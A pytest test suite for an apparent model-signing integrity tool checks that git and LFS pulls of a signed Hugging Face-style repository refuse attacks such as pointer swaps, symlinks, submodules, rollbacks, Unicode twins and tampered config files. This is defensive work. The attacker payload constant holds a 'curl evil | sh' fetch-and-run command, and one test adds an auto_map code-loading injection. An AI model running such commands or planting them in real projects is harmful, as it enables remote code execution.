"""One test per attack class on a signed repository, each as the attack really comes.

The world is shaped like a Hugging Face model repository: ``model.safetensors``
and ``weights/extra.safetensors`` are Git LFS files; ``config.json``,
``tokenizer.json``, ``modeling.py`` and ``README.md`` are ordinary git files;
everything is signed (``sign-repo``: the manifest is the whole tree). An
attacker with write access pushes a branch from a second clone; the consumer
(an ``ml-integrity clone``) then runs ``git pull``, ``git lfs pull``,
``ml-integrity pull`` and ``ml-integrity verify --git-repo --rehash``. Each test
asserts the exit codes, that no attacker byte is in the work tree, and that
no signed file or object was lost.
"""

from __future__ import annotations

import json
import os
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.git.lfs.lfs_support import (
    Proc,
    base_env,
    git,
    is_pointer,
    lfs_object,
    mi,
    sha256,
)

LFS_FILES = {
    "model.safetensors": b"signed model weights " * 40,
    "weights/extra.safetensors": b"signed extra weights " * 40,
}
PLAIN_FILES = {
    "config.json": b'{"architectures": ["BertModel"], "hidden_size": 768}\n',
    "tokenizer.json": b'{"version": "1.0", "model": {"type": "WordPiece"}}\n',
    "modeling.py": b"# the model's own code, reviewed\nclass Model: ...\n",
    "README.md": b"# a signed model\n",
}
SIGNED = {**LFS_FILES, **PLAIN_FILES}
EVIL = b"ATTACKER-BYTES import os; os.system('curl evil | sh')\n"


@dataclass
class HfWorld:
    root: Path
    remote: Path
    attacker: Path
    key: Path
    pub: Path
    env: dict[str, str]

    def attack(self, branch: str, *steps: list[str | Path], files: dict[str, bytes] = {}) -> None:  # noqa: B006
        """On a new branch of the attacker's clone: write files, run git steps, push."""
        env = self.env
        git("checkout", "-q", "-f", "-B", branch, "origin/main", cwd=self.attacker, env=env)
        git("clean", "-q", "-f", "-d", cwd=self.attacker, env=env)
        for name, data in files.items():
            p = self.attacker / name
            p.parent.mkdir(parents=True, exist_ok=True)
            if p.is_symlink():
                p.unlink()
            p.write_bytes(data)
        git("add", "-A", cwd=self.attacker, env=env)
        for step in steps:
            git(*step, cwd=self.attacker, env=env)
        git("commit", "-q", "--no-verify", "-m", f"attack: {branch}", cwd=self.attacker, env=env)
        git("push", "-q", "--no-verify", "origin", branch, cwd=self.attacker, env=env)


@pytest.fixture(scope="module")
def hf(tmp_path_factory: pytest.TempPathFactory) -> HfWorld:
    from ml_integrity.trust import keys as _keys

    root = tmp_path_factory.mktemp("hf-world")
    env = base_env(root / "home")
    key = root / "signer.pem"
    _keys.generate(key, "ec-p256")
    remote = root / "remote.git"
    git("init", "-q", "--bare", remote, cwd=root, env=env)
    author = root / "author"
    git("init", "-q", author, cwd=root, env=env)
    git("lfs", "track", "*.safetensors", cwd=author, env=env)
    for name, data in SIGNED.items():
        (author / name).parent.mkdir(parents=True, exist_ok=True)
        (author / name).write_bytes(data)
    git("add", ".", cwd=author, env=env)
    mi("sign-repo", "--key", key, cwd=author, env=env, check=True)
    git("commit", "-q", "-m", "signed model", cwd=author, env=env)
    git("remote", "add", "origin", remote, cwd=author, env=env)
    git("push", "-q", "origin", "main", cwd=author, env=env)
    attacker = root / "attacker"
    git("clone", "-q", remote, attacker, cwd=root, env=env)
    return HfWorld(root, remote, attacker, key, root / "signer.pem.pub", env)


@pytest.fixture
def consumer(hf: HfWorld, tmp_path: Path) -> Path:
    dest = tmp_path / "consumer"
    r = mi("clone", hf.remote, dest, "--key", hf.pub, cwd=tmp_path)
    assert r.returncode == 0, r.output
    for name, data in SIGNED.items():
        assert (dest / name).read_bytes() == data, name
    return dest


def pull(consumer: Path, branch: str) -> Proc:
    return git("pull", "-q", "--no-rebase", "origin", branch, cwd=consumer, check=False)


def no_attacker_bytes(repo: Path, *extra: bytes) -> None:
    for dirpath, dirnames, filenames in os.walk(repo):
        if ".git" in dirnames:
            dirnames.remove(".git")
        for name in filenames:
            p = Path(dirpath) / name
            if p.is_symlink():
                raise AssertionError(f"a symbolic link reached the work tree: {p}")
            data = p.read_bytes()
            for evil in (EVIL, *extra):
                assert evil not in data, f"attacker bytes in {p}"


def nothing_lost(repo: Path) -> None:
    """Every signed file is in the work tree, or its pointer is and its object is kept."""
    for name, data in SIGNED.items():
        p = repo / name
        if p.is_file() and not p.is_symlink() and p.read_bytes() == data:
            continue
        assert name in LFS_FILES, f"{name} lost from the work tree"
        oid = sha256(data)
        kept = (
            lfs_object(repo / ".git", oid).is_file()
            or (repo / ".git" / "lfs" / "quarantine" / oid).is_file()
        )
        assert kept, f"the object of {name} is lost"
        assert p.is_file() and is_pointer(p), f"{name}: neither content nor pointer"


def consumer_checks(consumer: Path, branch: str, named: str, *extra: bytes) -> None:
    """The consumer's four ways: git pull, git lfs pull, ml-integrity pull, verify."""
    pulled = pull(consumer, branch)
    assert pulled.returncode == 0, pulled.output  # git ignores post-merge's exit code ...
    assert "REFUSED" in pulled.output and named in pulled.output, pulled.output  # ... loud
    no_attacker_bytes(consumer, *extra)
    nothing_lost(consumer)
    lfs = git("lfs", "pull", cwd=consumer, check=False)
    assert lfs.returncode in (0, 2), lfs.output  # 2: the gate refused a download
    no_attacker_bytes(consumer, *extra)
    nothing_lost(consumer)
    ours = mi("pull", cwd=consumer)
    assert ours.returncode == 1, ours.output
    assert named in ours.stderr, ours.output
    no_attacker_bytes(consumer, *extra)
    nothing_lost(consumer)
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert verified.returncode == 1, verified.output
    assert named in verified.stderr, verified.output
    assert "Traceback" not in lfs.output


# --- the attack classes -----------------------------------------------------------


def test_signed_lfs_path_stops_being_lfs(hf: HfWorld, consumer: Path) -> None:
    """.gitattributes no longer says LFS; raw bytes are committed at the signed path."""
    hf.attack(
        "not-lfs",
        files={".gitattributes": b"", "model.safetensors": EVIL},
    )
    consumer_checks(consumer, "not-lfs", "model.safetensors")
    assert (consumer / "model.safetensors").read_bytes() == LFS_FILES["model.safetensors"]


def test_symlink_at_a_signed_path(hf: HfWorld, consumer: Path) -> None:
    hf.attack(
        "symlink",
        ["rm", "-q", "config.json"],
        files={"evil.txt": EVIL},
    )
    git("checkout", "-q", "symlink", cwd=hf.attacker, env=hf.env)
    os.symlink("evil.txt", hf.attacker / "config.json")
    git("add", "-A", cwd=hf.attacker, env=hf.env)
    git("commit", "-q", "--no-verify", "-m", "link", cwd=hf.attacker, env=hf.env)
    git("push", "-q", "--no-verify", "origin", "symlink", cwd=hf.attacker, env=hf.env)
    consumer_checks(consumer, "symlink", "config.json")


def test_signed_file_deleted(hf: HfWorld, consumer: Path) -> None:
    hf.attack("deleted", ["rm", "-q", "tokenizer.json"])
    consumer_checks(consumer, "deleted", "tokenizer.json")
    assert (consumer / "tokenizer.json").read_bytes() == PLAIN_FILES["tokenizer.json"]  # kept
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert "missing: tokenizer.json" in verified.stderr


def test_pointers_swapped_between_signed_paths(hf: HfWorld, consumer: Path) -> None:
    a, b = "model.safetensors", "weights/extra.safetensors"
    pa = git("show", f"origin/main:{a}", cwd=hf.attacker, env=hf.env).stdout.encode()
    pb = git("show", f"origin/main:{b}", cwd=hf.attacker, env=hf.env).stdout.encode()
    hf.attack("swap", files={a: pb, b: pa})
    consumer_checks(consumer, "swap", a)
    again = git("lfs", "pull", cwd=consumer, check=False)
    assert again.returncode == 2 and "ml-integrity refused" in again.output, again.output
    # `git lfs pull`, the usual fix, never wrote one signed object into the other path
    for name, other in ((a, b), (b, a)):
        assert (consumer / name).read_bytes() != LFS_FILES[other], f"{other}'s bytes in {name}"
        assert is_pointer(consumer / name)
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert b in verified.stderr


def test_pointer_to_an_object_signed_for_another_path(hf: HfWorld, consumer: Path) -> None:
    """The object is signed (for another path) and local, so nothing is downloaded or
    quarantined: `git lfs pull` still must not write it at the refused path."""
    a, b = "model.safetensors", "weights/extra.safetensors"
    pb = git("show", f"origin/main:{b}", cwd=hf.attacker, env=hf.env).stdout.encode()
    hf.attack("dup", files={a: pb})
    consumer_checks(consumer, "dup", a)
    assert (consumer / a).read_bytes() != LFS_FILES[b], f"{b}'s bytes in {a}"
    assert (consumer / b).read_bytes() == LFS_FILES[b]
    again = git("lfs", "pull", cwd=consumer, check=False)
    assert again.returncode == 0, again.output
    assert (consumer / a).read_bytes() != LFS_FILES[b], f"`git lfs pull` wrote {b}'s bytes in {a}"
    assert lfs_object(consumer / ".git", sha256(LFS_FILES[b])).is_file()  # kept for b
    # the refusal stub is the pointer to git: nothing shows as modified, even when git
    # has to clean the file again (its stat changed)
    os.utime(consumer / a, (1, 1))
    status = git("status", "--porcelain", cwd=consumer)
    assert status.stdout.strip() == "", status.output


def test_skipped_smudge_then_git_lfs_pull_fills_only_what_verifies(
    hf: HfWorld, consumer: Path
) -> None:
    a, b = "model.safetensors", "weights/extra.safetensors"
    pb = git("show", f"origin/main:{b}", cwd=hf.attacker, env=hf.env).stdout.encode()
    hf.attack("dup-skip", files={a: pb})
    env = {**os.environ, "GIT_LFS_SKIP_SMUDGE": "1"}
    pulled = git("pull", "-q", "--no-rebase", "origin", "dup-skip", cwd=consumer, env=env)
    assert "REFUSED" in pulled.output and a in pulled.output, pulled.output
    (consumer / b).unlink()
    git("checkout", "--", b, cwd=consumer, env=env, check=False)  # b: a plain pointer now
    assert is_pointer(consumer / b)
    again = git("lfs", "pull", cwd=consumer, check=False)
    assert again.returncode == 0, again.output
    assert (consumer / b).read_bytes() == LFS_FILES[b]  # (b, oid) verifies: filled
    assert (consumer / a).read_bytes() != LFS_FILES[b]  # (a, oid) does not: left alone
    ours = mi("pull", cwd=consumer)
    assert ours.returncode == 1 and a in ours.stderr, ours.output
    assert (consumer / a).read_bytes() != LFS_FILES[b]


def test_submodule_is_refused(hf: HfWorld, consumer: Path) -> None:
    commit = git("rev-parse", "origin/main", cwd=hf.attacker, env=hf.env).stdout.strip()
    hf.attack(
        "submodule",
        ["update-index", "--add", "--cacheinfo", f"160000,{commit},vendor/evil"],
    )
    consumer_checks(consumer, "submodule", "vendor/evil")
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert "a submodule" in verified.stderr


def test_tampered_ordinary_files_of_a_hf_repository(hf: HfWorld, consumer: Path) -> None:
    """The end-to-end case of the issue: config.json gains auto_map, tokenizer.json is
    replaced, modeling_evil.py is added; the LFS model is untouched."""
    evil_config = b'{"architectures": ["BertModel"], "auto_map": {"AutoModel": "evil.E"}}\n'
    hf.attack(
        "hf-tamper",
        files={
            "config.json": evil_config,
            "tokenizer.json": EVIL,
            "modeling_evil.py": EVIL,
        },
    )
    consumer_checks(consumer, "hf-tamper", "config.json", b"auto_map")
    for name in ("config.json", "tokenizer.json"):
        assert (consumer / name).read_bytes() == PLAIN_FILES[name]  # the signed bytes are back
    assert not (consumer / "modeling_evil.py").exists()
    kept = consumer / ".git" / "ml-integrity" / "quarantine" / sha256(EVIL)
    assert kept.is_file()  # moved, never deleted


def test_nfd_twin_of_a_signed_file(hf: HfWorld, consumer: Path) -> None:
    nfc = "café.json"
    nfd = unicodedata.normalize("NFD", nfc)
    assert nfc != nfd
    hf.attack("twin-base", files={nfc: b"{}\n"})
    # sign the base with the twin's NFC name in it, then add the NFD twin
    mi("sign-repo", "--key", hf.key, cwd=hf.attacker, env=hf.env, check=True)
    git("commit", "-q", "--no-verify", "-m", "signed café", cwd=hf.attacker, env=hf.env)
    (hf.attacker / nfd).write_bytes(EVIL)
    git("add", "-A", cwd=hf.attacker, env=hf.env)
    git("commit", "-q", "--no-verify", "-m", "twin", cwd=hf.attacker, env=hf.env)
    git("push", "-q", "--no-verify", "origin", "twin-base", cwd=hf.attacker, env=hf.env)
    consumer_checks(consumer, "twin-base", nfc)
    assert (consumer / nfc).read_bytes() == b"{}\n"
    assert not (consumer / nfd).exists()  # the unsigned twin left the work tree (quarantine)
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert "normalise to this one NFC name" in verified.stderr


def test_a_deeply_nested_bundle_never_blocks_the_valid_one(hf: HfWorld, consumer: Path) -> None:
    deep = b"[" * 200_000 + b"]" * 200_000
    hf.attack("deep", files={".ml-integrity/evil.sig": deep})
    pulled = pull(consumer, "deep")
    assert pulled.returncode == 0, pulled.output
    for name, data in SIGNED.items():  # every file still there, verified
        assert (consumer / name).read_bytes() == data
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert verified.returncode == 0, verified.output
    assert ".ml-integrity/evil.sig: refused" in verified.stderr  # named
    assert "nested deeper" in verified.stderr
    # and a fresh clone through the filter checks everything out
    fresh = consumer.parent / "fresh"
    r = mi("clone", hf.remote, fresh, "--key", hf.pub, "-b", "deep", cwd=consumer.parent)
    assert r.returncode == 0, r.output
    for name, data in SIGNED.items():
        assert (fresh / name).read_bytes() == data


def test_a_deeply_nested_bundle_alone_is_an_integrity_failure(hf: HfWorld, consumer: Path) -> None:
    deep = b"[" * 200_000 + b"]" * 200_000
    hf.attack("deep-alone", files={".ml-integrity/manifest.sig": deep, "config.json": EVIL})
    verified_before = mi("verify", "--git-repo", cwd=consumer)
    assert verified_before.returncode == 0
    pull(consumer, "deep-alone")
    no_attacker_bytes(consumer)
    verified = mi("verify", "--git-repo", "--rehash", cwd=consumer)
    assert verified.returncode == 1, verified.output  # never 3
    assert "manifest.sig" in verified.stderr and "nested deeper" in verified.stderr


def test_rollback_to_an_old_bundle(hf: HfWorld, tmp_path: Path) -> None:
    """An old object and its old bundle are put back: refused by the version rule."""
    env = hf.env
    work = tmp_path / "maintainer"
    git("clone", "-q", hf.remote, work, cwd=tmp_path, env=env)
    git("checkout", "-q", "-b", "release-2", cwd=work, env=env)
    (work / "model.safetensors").write_bytes(b"version 2 weights " * 40)
    git("add", "-A", cwd=work, env=env)
    r = mi("sign-repo", "--key", hf.key, "--json", cwd=work, env=env, check=True)
    assert json.loads(r.stdout)["version"] == 2
    git("commit", "-q", "-m", "v2", cwd=work, env=env)
    git("push", "-q", "origin", "release-2", cwd=work, env=env)
    # the attacker puts back v1's model and bundle on top of v2
    git("fetch", "-q", "origin", cwd=hf.attacker, env=env)
    git("checkout", "-q", "-f", "-B", "rollback", "origin/release-2", cwd=hf.attacker, env=env)
    for name in ("model.safetensors", ".ml-integrity/manifest.sig", ".ml-integrity/manifest.json"):
        git("checkout", "origin/main", "--", name, cwd=hf.attacker, env=env)
    git("commit", "-q", "--no-verify", "-m", "rollback", cwd=hf.attacker, env=env)
    git("push", "-q", "--no-verify", "origin", "rollback", cwd=hf.attacker, env=env)
    consumer = tmp_path / "consumer"
    r = mi("clone", hf.remote, consumer, "--key", hf.pub, "-b", "rollback", cwd=tmp_path)
    assert r.returncode == 0, r.output  # a consistent (old) signed state ...
    refused = mi("verify", "--git-repo", "--key", hf.pub, "--not-older-than", "2", cwd=consumer)
    assert refused.returncode == 1, refused.output  # ... that the version rule refuses
    assert "rollback refused" in refused.stderr
    current = mi("verify", "--git-repo", "--key", hf.pub, "--not-older-than", "2", cwd=work)
    assert current.returncode == 0, current.output


def test_skipped_smudge_is_unfetched_not_quarantined(hf: HfWorld, tmp_path: Path) -> None:
    dest = tmp_path / "skip"
    env = {**os.environ, "GIT_LFS_SKIP_SMUDGE": "1"}
    r = mi("clone", hf.remote, dest, "--key", hf.pub, cwd=tmp_path, env=env)
    assert "corrupt" not in r.output, r.output
    quarantine = dest / ".git" / "lfs" / "quarantine"
    assert not quarantine.exists() or not list(quarantine.iterdir())
    for name in LFS_FILES:
        assert is_pointer(dest / name)
    fetched = mi("pull", cwd=dest)
    assert fetched.returncode == 0, fetched.output
    for name, data in SIGNED.items():
        assert (dest / name).read_bytes() == data


def test_missing_object_on_the_remote_is_git_lfs_s_message(hf: HfWorld, tmp_path: Path) -> None:
    bare = tmp_path / "incomplete.git"
    git("clone", "-q", "--bare", hf.remote, bare, cwd=tmp_path, env=hf.env)
    # the bare copy has no LFS objects at all: every download is "missing"
    assert not (bare / "lfs").exists()
    dest = tmp_path / "c"
    r = mi("clone", bare, dest, "--key", hf.pub, cwd=tmp_path)
    assert "PktError" not in r.output and "internal error" not in r.output, r.output
    assert r.returncode == 3, r.output  # operational, not "refused"
    assert "remote missing object" in r.stderr  # git-lfs's own message
    assert "every file of HEAD is signed, but not every one could be checked out" in r.stderr
    pulled = mi("pull", cwd=dest)
    assert pulled.returncode == 3, pulled.output  # git-lfs's failure, not a refusal
    assert "remote missing object" in pulled.output and "PktError" not in pulled.output


def test_the_repository_bundle_verifies_with_model_signing(hf: HfWorld, consumer: Path) -> None:
    """The repository manifest is an OMS bundle that `model_signing verify` accepts on a
    checkout of the tree (exclusions recorded in the statement), and refuses tampered."""
    import subprocess
    import sys

    exe = Path(sys.executable).parent / "model_signing"
    args = [
        str(exe),
        "verify",
        "key",
        str(consumer),
        "--signature",
        str(consumer / ".ml-integrity" / "manifest.sig"),
        "--public_key",
        str(hf.pub),
    ]
    ok = subprocess.run(args, capture_output=True, text=True, check=False)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    (consumer / "config.json").write_bytes(EVIL)
    tampered = subprocess.run(args, capture_output=True, text=True, check=False)
    assert tampered.returncode != 0, tampered.stdout + tampered.stderr


def test_a_named_submodule_is_checked_recursively(hf: HfWorld, tmp_path: Path) -> None:
    """A submodule is refused unless git config names it (ml-integrity.submodule); a named
    one is pinned by the superproject's signature and its own tree is verified against its
    own signatures with the same trust."""
    env = {**hf.env, "GIT_ALLOW_PROTOCOL": "file"}
    sub_remote = tmp_path / "lib.git"
    git("init", "-q", "--bare", sub_remote, cwd=tmp_path, env=env)
    lib = tmp_path / "lib"
    git("init", "-q", lib, cwd=tmp_path, env=env)
    (lib / "lib.py").write_bytes(b"def helper(): ...\n")
    git("add", ".", cwd=lib, env=env)
    mi("sign-repo", "--key", hf.key, cwd=lib, env=env, check=True)
    git("commit", "-q", "-m", "signed lib", cwd=lib, env=env)
    git("push", "-q", sub_remote, "HEAD:main", cwd=lib, env=env)
    top = tmp_path / "top"
    git("init", "-q", top, cwd=tmp_path, env=env)
    (top / "config.json").write_bytes(PLAIN_FILES["config.json"])
    git(
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        sub_remote,
        "vendor/lib",
        cwd=top,
        env=env,
    )
    git("add", ".", cwd=top, env=env)
    refused = mi("sign-repo", "--key", hf.key, cwd=top, env=env)
    assert refused.returncode == 1 and "a submodule" in refused.stderr, refused.output
    git("config", "ml-integrity.submodule", "vendor/lib", cwd=top, env=env)
    mi("sign-repo", "--key", hf.key, cwd=top, env=env, check=True)
    git("commit", "-q", "-m", "signed, with the submodule", cwd=top, env=env)
    ok = mi("verify", "--git-repo", "--key", hf.pub, cwd=top, env=env)
    assert ok.returncode == 0, ok.output
    # not named: refused
    git("config", "--unset", "ml-integrity.submodule", cwd=top, env=env)
    unnamed = mi("verify", "--git-repo", "--key", hf.pub, cwd=top, env=env)
    assert unnamed.returncode == 1 and "vendor/lib" in unnamed.stderr, unnamed.output
    git("config", "ml-integrity.submodule", "vendor/lib", cwd=top, env=env)
    # the submodule moves to an unsigned commit, and the superproject is re-signed to pin it:
    # the recursive check refuses it (its own tree has no valid signature for the change)
    (top / "vendor" / "lib" / "lib.py").write_bytes(EVIL)
    git("commit", "-q", "--no-verify", "-am", "evil lib", cwd=top / "vendor" / "lib", env=env)
    git("add", "vendor/lib", cwd=top, env=env)
    mi("sign-repo", "--key", hf.key, cwd=top, env=env, check=True)
    git("commit", "-q", "--no-verify", "-m", "pin the evil lib", cwd=top, env=env)
    deep = mi("verify", "--git-repo", "--key", hf.pub, cwd=top, env=env)
    assert deep.returncode == 1, deep.output
    assert "vendor/lib" in deep.stderr and "lib.py" in deep.stderr, deep.output


def test_allowed_symlinks_are_recorded_as_links(hf: HfWorld, tmp_path: Path) -> None:
    env = hf.env
    repo = tmp_path / "links"
    git("init", "-q", repo, cwd=tmp_path, env=env)
    (repo / "config.json").write_bytes(PLAIN_FILES["config.json"])
    os.symlink("config.json", repo / "alias.json")
    git("add", ".", cwd=repo, env=env)
    assert mi("sign-repo", "--key", hf.key, cwd=repo, env=env).returncode == 1  # refused
    git("config", "ml-integrity.allowSymlinks", "true", cwd=repo, env=env)
    mi("sign-repo", "--key", hf.key, cwd=repo, env=env, check=True)
    git("commit", "-q", "--no-verify", "-m", "signed link", cwd=repo, env=env)
    doc = json.loads((repo / ".ml-integrity" / "manifest.json").read_text())
    entry = next(e for e in doc["entries"] if e["path"] == "alias.json")
    assert entry["annotations"] == {"link": "true"} and entry["sha256"] == sha256(b"config.json")
    assert mi("verify", "--git-repo", "--key", hf.pub, cwd=repo, env=env).returncode == 0
    (repo / "evil.json").write_bytes(EVIL)
    (repo / "alias.json").unlink()
    os.symlink("evil.json", repo / "alias.json")  # the link now leads elsewhere
    git("add", ".", cwd=repo, env=env)
    git("commit", "-q", "--no-verify", "-m", "retarget", cwd=repo, env=env)
    moved = mi("verify", "--git-repo", "--key", hf.pub, cwd=repo, env=env)
    assert moved.returncode == 1 and "alias.json" in moved.stderr, moved.output


def _policy(tmp_path: Path, hf: HfWorld, extra: str) -> Path:
    policy = tmp_path / "outside" / "policy.yaml"
    policy.parent.mkdir(parents=True, exist_ok=True)
    pub = policy.parent / "signer.pub"
    pub.write_bytes(hf.pub.read_bytes())
    policy.write_text(f"version: 1\nsigners:\n  owner:\n    key: signer.pub\n{extra}")
    return policy


def _recheckout(consumer: Path, name: str) -> Proc:
    (consumer / name).unlink()
    return git("checkout", "--", name, cwd=consumer, check=False)


def test_the_git_config_policy_governs_the_filter(
    hf: HfWorld, consumer: Path, tmp_path: Path
) -> None:
    """ml-integrity.policy applies to every checkout: here its rollback rule refuses a
    signed version 1 that plain key trust accepts."""
    name = "model.safetensors"
    policy = _policy(tmp_path, hf, "rollback:\n  not-older-than: 2\n")
    git("config", "ml-integrity.policy", str(policy), cwd=consumer)
    out = _recheckout(consumer, name)
    assert "REFUSED" in out.output and name in out.output and "rollback" in out.output, out.output
    assert (consumer / name).read_bytes() != LFS_FILES[name]
    assert is_pointer(consumer / name)
    verified = mi("verify", "--git-repo", cwd=consumer)
    assert verified.returncode == 1 and "rollback" in verified.stderr, verified.output
    policy.write_text(policy.read_text().replace("not-older-than: 2", "not-older-than: 1"))
    assert mi("pull", cwd=consumer).returncode == 0  # the rule holds now: given back
    assert (consumer / name).read_bytes() == LFS_FILES[name]


@pytest.mark.parametrize("bad", ["unparsable", "inside the work tree", "nested 5000 deep"])
def test_unusable_trust_settings_refuse_each_file_and_keep_the_checkout(
    hf: HfWorld, consumer: Path, tmp_path: Path, bad: str
) -> None:
    name = "model.safetensors"
    policy = _policy(tmp_path, hf, "")
    if bad == "unparsable":
        policy.write_text("version: 1\nsigners: [\n")
    elif bad == "nested 5000 deep":
        policy.write_text("version: 1\nsigners: " + "[" * 5000 + "]" * 5000 + "\n")
    else:
        policy = consumer / "policy.yaml"  # the checkout could rewrite it
        policy.write_text(_policy(tmp_path, hf, "").read_text())
    git("config", "ml-integrity.policy", str(policy), cwd=consumer)
    out = _recheckout(consumer, name)
    assert "Traceback" not in out.output
    assert "REFUSED" in out.output and "trust settings cannot be used" in out.output, out.output
    assert str(policy) in out.output
    assert is_pointer(consumer / name)  # the pointer stays: nothing lost, nothing half-done
    assert (consumer / "weights/extra.safetensors").read_bytes() == LFS_FILES[
        "weights/extra.safetensors"
    ]
    verified = mi("verify", "--git-repo", cwd=consumer)
    assert verified.returncode == 2, verified.output  # a configuration error
    assert "Traceback" not in verified.output


@pytest.mark.parametrize("lib_signed", [False, True])
def test_clone_recurse_submodules_smudges_through_the_filter(
    hf: HfWorld, tmp_path: Path, lib_signed: bool
) -> None:
    """`ml-integrity clone --git-arg=--recurse-submodules`: a submodule's LFS files are
    smudged by our filter with the clone's trust, not by the plain git-lfs of the global
    config (which this environment has: git lfs install)."""
    from ml_integrity.trust import keys as _keys

    env = {**hf.env, "GIT_ALLOW_PROTOCOL": "file"}
    weights = b"the submodule's weights " * 50
    sub_remote = tmp_path / "lib.git"
    git("init", "-q", "--bare", sub_remote, cwd=tmp_path, env=env)
    lib = tmp_path / "lib"
    git("init", "-q", lib, cwd=tmp_path, env=env)
    git("lfs", "track", "*.bin", cwd=lib, env=env)
    (lib / "weights.bin").write_bytes(weights)
    git("add", ".", cwd=lib, env=env)
    other = tmp_path / "other.pem"
    _keys.generate(other, "ec-p256")
    mi("sign-repo", "--key", hf.key if lib_signed else other, cwd=lib, env=env, check=True)
    git("commit", "-q", "-m", "lib", cwd=lib, env=env)
    git("remote", "add", "origin", sub_remote, cwd=lib, env=env)
    git("push", "-q", "origin", "HEAD:main", cwd=lib, env=env)
    top_remote = tmp_path / "top.git"
    git("init", "-q", "--bare", top_remote, cwd=tmp_path, env=env)
    top = tmp_path / "top"
    git("init", "-q", top, cwd=tmp_path, env=env)
    (top / "config.json").write_bytes(PLAIN_FILES["config.json"])
    git("submodule", "add", "-q", sub_remote, "vendor/lib", cwd=top, env=env)
    git("config", "ml-integrity.submodule", "vendor/lib", cwd=top, env=env)
    mi("sign-repo", "--key", hf.key, cwd=top, env=env, check=True)
    git("commit", "-q", "-m", "top", cwd=top, env=env)
    git("remote", "add", "origin", top_remote, cwd=top, env=env)
    git("push", "-q", "origin", "HEAD:main", cwd=top, env=env)
    named = {
        **env,
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "ml-integrity.submodule",
        "GIT_CONFIG_VALUE_0": "vendor/lib",
    }
    dest = tmp_path / "dest"
    cloned = mi(
        "clone", top_remote, dest, "--key", hf.pub, "--git-arg=--recurse-submodules",
        cwd=tmp_path, env=named,
    )  # fmt: skip
    got = dest / "vendor" / "lib" / "weights.bin"
    if lib_signed:
        assert cloned.returncode == 0, cloned.output
        assert got.read_bytes() == weights
    else:
        assert cloned.returncode == 1, cloned.output
        assert "REFUSED" in cloned.output and "weights.bin" in cloned.output, cloned.output
        assert got.read_bytes() != weights and is_pointer(got)
    sub_filter = git("config", "filter.lfs.process", cwd=dest / "vendor" / "lib", env=env)
    assert "filter-process" in sub_filter.stdout  # later checkouts are verified too


def test_clone_with_a_policy_applies_it_to_every_checkout(hf: HfWorld, tmp_path: Path) -> None:
    policy = _policy(tmp_path, hf, "")
    dest = tmp_path / "dest"
    ok = mi("clone", hf.remote, dest, "--policy", policy, cwd=tmp_path, env=hf.env)
    assert ok.returncode == 0, ok.output
    for name, data in SIGNED.items():
        assert (dest / name).read_bytes() == data, name
    assert git("config", "ml-integrity.policy", cwd=dest).stdout.strip() == str(policy)
    # the same policy with a rollback rule the signed version 1 fails
    strict = _policy(tmp_path / "strict", hf, "rollback:\n  not-older-than: 2\n")
    refused = mi("clone", hf.remote, tmp_path / "r", "--policy", strict, cwd=tmp_path, env=hf.env)
    assert refused.returncode == 1 and "rollback" in refused.output, refused.output
    assert is_pointer(tmp_path / "r" / "model.safetensors")
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: 1\nsigners: [\n")
    usage = mi("clone", hf.remote, tmp_path / "b", "--policy", bad, cwd=tmp_path, env=hf.env)
    assert usage.returncode == 2 and str(bad) in usage.output, usage.output
    assert not (tmp_path / "b").exists()  # refused before anything was cloned


def test_a_blob_git_lfs_reads_as_a_pointer_is_given_as_signed(hf: HfWorld, tmp_path: Path) -> None:
    """A signed ordinary blob at an LFS path whose text git-lfs, not our parser, takes
    for a pointer (CRLF line ends): the work tree gets the signed bytes, never the object
    git-lfs would put in their place."""
    env = hf.env
    name = "odd.safetensors"
    other = LFS_FILES["weights/extra.safetensors"]
    crlf = (
        f"version https://git-lfs.github.com/spec/v1\r\noid sha256:{sha256(other)}\r\n"
        f"size {len(other)}\r\n"
    ).encode()
    work = tmp_path / "signer"
    git("clone", "-q", hf.remote, work, cwd=tmp_path, env=env)
    git("checkout", "-q", "-b", "crlf", cwd=work, env=env)
    blob_file = tmp_path / "blob"
    blob_file.write_bytes(crlf)
    blob = git("hash-object", "-w", "--no-filters", blob_file, cwd=work, env=env).stdout.strip()
    git("update-index", "--add", "--cacheinfo", f"100644,{blob},{name}", cwd=work, env=env)
    mi("sign-repo", "--key", hf.key, cwd=work, env=env, check=True)
    git("commit", "-q", "--no-verify", "-m", "a CRLF pointer, signed as it is", cwd=work, env=env)
    git("push", "-q", "--no-verify", "origin", "crlf", cwd=work, env=env)
    dest = tmp_path / "consumer"
    cloned = mi("clone", hf.remote, dest, "--key", hf.pub, "-b", "crlf", cwd=tmp_path)
    assert cloned.returncode == 0, cloned.output
    assert (dest / name).read_bytes() == crlf  # what was signed, not the object
    assert mi("verify", "--git-repo", "--rehash", cwd=dest).returncode == 0


def test_clone_checks_the_checkout_when_git_fails_after_it(hf: HfWorld, tmp_path: Path) -> None:
    """git clone exits non-zero after the checkout (a submodule that cannot be cloned):
    the post-checkout check still runs, and the unsigned file that arrived is moved out."""
    commit = git("rev-parse", "origin/main", cwd=hf.attacker, env=hf.env).stdout.strip()
    gitmodules = b'[submodule "vendor/gone"]\n\tpath = vendor/gone\n\turl = /nonexistent/gone.git\n'
    hf.attack(
        "late-failure",
        ["update-index", "--add", "--cacheinfo", f"160000,{commit},vendor/gone"],
        files={"evil.py": EVIL, ".gitmodules": gitmodules},
    )
    dest = tmp_path / "consumer"
    cloned = mi(
        "clone", hf.remote, dest, "--key", hf.pub, "-b", "late-failure",
        "--git-arg=--recurse-submodules", cwd=tmp_path,
    )  # fmt: skip
    assert cloned.returncode == 1, cloned.output
    assert "evil.py" in cloned.output, cloned.output
    no_attacker_bytes(dest)
